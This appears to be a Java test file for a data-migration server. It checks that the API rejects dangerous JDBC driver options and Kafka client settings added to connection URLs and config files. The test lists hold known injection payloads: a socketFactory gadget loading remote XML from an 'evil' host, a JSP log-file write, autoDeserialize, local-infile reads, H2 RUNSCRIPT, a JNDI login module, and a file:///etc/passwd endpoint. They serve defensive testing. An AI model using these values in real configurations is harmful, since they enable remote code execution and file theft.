package dev.crossfade.server.http;

import static org.assertj.core.api.Assertions.assertThat;

import dev.crossfade.server.security.Role;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

/** Options of drivers and of Kafka's clients that run code or read files get in nowhere. */
class DriverOptionsTest {
  private static final List<String> OPTIONS =
      List.of(
          "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
              + "&socketFactoryArg=http://evil/x.xml",
          "sslfactory=evil.Factory",
          "sslpasswordcallback=evil.Callback",
          "authenticationPluginClassName=evil.Plugin",
          "loggerLevel=DEBUG&loggerFile=/tmp/x.jsp",
          "autoDeserialize=true",
          "allowLoadLocalInfile=true",
          "allowLocalInfile=true",
          "queryInterceptors=evil.Interceptor",
          "preferQueryMode=simple",
          "jaasApplicationName=x",
          "credentialType=x",
          "INIT=RUNSCRIPT");

  private static final List<String> KAFKA =
      List.of(
          "sasl.jaas.config: com.sun.security.auth.module.JndiLoginModule required;",
          "sasl.login.callback.handler.class: evil.Handler",
          "sasl.oauthbearer.token.endpoint.url: file:///etc/passwd",
          "metric.reporters: evil.Reporter",
          "interceptor.classes: evil.Interceptor",
          "client: {}",
          "config.providers: file");

  private final Client operator = TestServer.shared().token("operator", Role.OPERATOR);

  @Test
  void anAddressTakesNoOptions() {
    for (String option : OPTIONS) {
      for (String mark : List.of("?", "#", ";")) {
        Answer answer = create("127.0.0.1:1/crm", "127.0.0.1:1/crm" + mark + option);
        assertThat(answer.status()).as(mark + option).isEqualTo(422);
        assertThat(answer.text("code")).isEqualTo("CF-1018");
      }
    }
  }

  @Test
  void aSystemTakesNoKeysButItsOwn() {
    for (String option : OPTIONS) {
      String key = option.replaceFirst("=.*", "");
      create(
              "    user: crossfade\n    password: ${env:SHOP_P",
              "    " + key + ": x\n    user: crossfade\n    password: ${env:SHOP_P")
          .problem(422, "CF-1005");
    }
    for (String line : KAFKA) {
      create(
              "target:",
              "kafka:\n  bootstrap: h:9092\n  connectUrl: http://h\n  " + line + "\ntarget:")
          .problem(422, "CF-1005");
    }
  }

  @Test
  void filesOfCertificatesHaveToBeReleased() {
    create(
            "    user: crossfade\n    password: ${env:SHOP_P",
            "    tls: {rootCertificate: /etc/passwd}\n"
                + "    user: crossfade\n    password: ${env:SHOP_P")
        .problem(422, "CF-6119");
  }

  private Answer create(String what, String by) {
    Map<String, String> files = new TreeMap<>(Shop.files("options-1"));
    String main = files.get("crossfade.yaml");
    assertThat(main).contains(what);
    files.put(
        "crossfade.yaml",
        main.replaceFirst(
            java.util.regex.Pattern.quote(what), java.util.regex.Matcher.quoteReplacement(by)));
    return operator.post("/api/v1/migrations", Map.of("files", files));
  }
}
